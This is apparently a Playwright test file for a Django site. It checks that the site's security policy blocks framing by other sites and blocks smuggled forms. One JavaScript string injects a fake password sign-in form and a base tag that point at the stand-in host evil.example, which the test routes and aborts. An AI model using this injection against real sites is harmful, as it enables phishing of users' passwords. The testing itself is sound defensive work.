"""What a browser keeps other sites from, by what every answer of ours says of itself."""

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from django.urls import reverse
from playwright.sync_api import Route

EVIL = "http://evil.example"
# Returns what the policy refused, and whether addresses are read from there now.
SMUGGLED = """async (address) => {
  const told = [];
  const note = (said) => told.push(said.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  const body = document.querySelector(".comment__body");
  body.innerHTML = "<form method=get><input name=password value=x><button>Sign in</button></form>";
  body.querySelector("form").action = address;
  body.querySelector("button").click();
  const base = document.createElement("base");
  base.href = address;
  document.head.append(base);
  await new Promise((done) => setTimeout(done, 300));
  return [told.sort(), document.baseURI.startsWith(address)];
}"""


@contextmanager
def another_site(html: str) -> Iterator[str]:
    """Serve a page under another name, from this machine: a public site may not frame one here."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_words: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


def test_no_page_stands_in_a_frame_of_another_site(browser, base_url, seed):
    thread = seed[0].thread
    ours = [
        thread.get_absolute_url(), seed[1].get_absolute_url(), reverse("account_login"),
        reverse("comments:new", args=[thread.pk]),
        "/admin/", "/en/nowhere/", "/healthz",
    ]  # fmt: skip
    frames = "".join(f"<iframe src='{base_url}{address}'></iframe>" for address in ours)
    html = f"<!doctype html><title>Another site</title>{frames}"
    context = browser.new_context()
    page = context.new_page()
    with another_site(html) as address:
        page.goto(address)
        for _turn in range(100):
            found = [frame.url for frame in page.frames[1:]]
            if all(found):
                break
            page.wait_for_timeout(100)
    context.close()
    # What was refused is an error of the browser's own, which has no address of ours.
    assert found == ["chrome-error://chromewebdata/"] * len(ours)


def test_no_form_within_a_page_sends_to_another_site(page, seed, context):
    """As one that somebody had smuggled into a comment, past every other door."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route(f"{EVIL}/**", note)
    page.goto(seed[0].thread.get_absolute_url())
    refused = page.evaluate(SMUGGLED, f"{EVIL}/take")
    assert refused == [["base-uri", "form-action"], False]
    assert asked == []
    page.complaints.clear()
